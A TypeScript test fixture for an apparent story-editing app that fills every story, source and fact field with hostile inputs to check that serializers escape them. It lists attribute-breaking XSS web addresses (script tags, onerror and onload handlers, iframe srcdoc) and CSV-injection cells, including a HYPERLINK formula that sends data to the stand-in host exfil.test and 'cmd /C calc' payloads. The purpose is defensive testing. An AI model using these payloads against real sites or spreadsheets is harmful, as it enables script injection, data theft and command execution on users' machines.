/**
 * A story whose every text field holds a payload as words (headline, variants, dek, authors,
 * dateline, section, keywords, genre, editor's note, rights, teasers, body text, TK notes,
 * "Read next" title) and whose links are web addresses made to break out of attributes:
 * what the serializers must escape, not sanitize.
 */
import type { DocJSON, NodeJSON } from '../../../story/document';
import type { MethodInput } from '../../../electron/api/contract';

/** Web addresses that are valid links yet full of quotes and markup. */
export const HOSTILE_HTTP_URLS = [
  `https://example.org/"onmouseover="alert('href-quote')`,
  `https://example.org/?q="><script>alert('href-script')</script>`,
  `https://example.org/'><img src=x onerror=alert('href-apos')>`,
  `https://example.org/<svg/onload=alert('href-svg')>`,
  `https://example.org/#</a><iframe srcdoc="<script>alert('href-frame')</script>">`,
];

const cut = (text: string, max: number) => (text.length > max ? text.slice(0, max) : text);

function bodyOf(texts: readonly string[]): DocJSON {
  const content: NodeJSON[] = [];
  texts.forEach((text, index) => {
    const href = HOSTILE_HTTP_URLS[index % HOSTILE_HTTP_URLS.length]!;
    content.push({
      type: 'paragraph',
      content: [
        { type: 'text', text: `${text} ` },
        { type: 'text', text: 'linked words', marks: [{ type: 'link', attrs: { href } }, { type: 'bold' }] },
        { type: 'tk', attrs: { note: cut(text, 300) } },
      ],
    });
    if (index % 5 === 0) content.push({ type: 'heading', attrs: { level: 2 }, content: [{ type: 'text', text: cut(text, 300) }] });
    if (index % 7 === 0) content.push({ type: 'pullQuote', content: [{ type: 'pullQuoteText', content: [{ type: 'text', text }] }, { type: 'pullQuoteAttribution', content: [{ type: 'text', text: cut(text, 200) }] }] });
  });
  content.push({ type: 'readNext', attrs: { title: cut(texts[0] ?? 'Read next', 200) } });
  return { type: 'doc', content };
}

/** Fields for createStory, each text field taking the next payload in turn. */
export function hostileStoryFields(texts: readonly string[]): MethodInput<'createStory'> {
  let next = 0;
  const take = (max: number) => cut(texts[next++ % texts.length]!, max);
  return {
    headline: take(500),
    headlineVariants: { seo: take(500), social: take(500) },
    dek: take(2000),
    authors: [take(200), take(200)],
    dateline: { place: take(200), date: '2025-02-12' },
    section: take(120),
    keywords: [take(100), take(100), take(100)],
    genre: take(120),
    editorsNote: take(20_000),
    copyright: take(1000),
    usageTerms: take(4000),
    related: HOSTILE_HTTP_URLS.map((url) => ({ headline: take(500), url, time: '2025-02-12T06:00:00Z' })),
    body: bodyOf(texts),
  };
}

/** Cells a spreadsheet would run as formulas (CSV injection), as a fact's words. */
export const FORMULA_TEXTS = [
  `=HYPERLINK("https://exfil.test/csv?"&A1,"Click")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
];

/** Sources whose every field holds a payload as words, and whose address is a web address full of markup. */
export function hostileSources(texts: readonly string[]): Array<MethodInput<'createSource'>> {
  return HOSTILE_HTTP_URLS.map((url, index) => ({
    kind: 'web' as const,
    title: texts[index % texts.length]!.trim() ? cut(texts[index % texts.length]!, 1000) : 'Source',
    url,
    publisher: cut(texts[(index + 1) % texts.length]!, 300),
    notes: cut(texts[(index + 2) % texts.length]!, 20_000),
  }));
}

/** Facts (for createFact, without the story) whose text, context, attribution and note are payloads or formulas. */
export function hostileFacts(texts: readonly string[]): Array<Omit<MethodInput<'createFact'>, 'storyId'>> {
  const kinds = ['claim', 'quote', 'figure', 'date', 'person', 'organisation', 'place'] as const;
  return [...FORMULA_TEXTS, ...texts].map((text, index) => ({
    kind: kinds[index % kinds.length]!,
    text: cut(text.trim() ? text : `fact ${index}`, 5000),
    context: cut(texts[(index + 1) % texts.length]!, 3000),
    attribution: cut(FORMULA_TEXTS[index % FORMULA_TEXTS.length]!, 300),
    note: cut(texts[(index + 3) % texts.length]!, 5000),
  }));
}
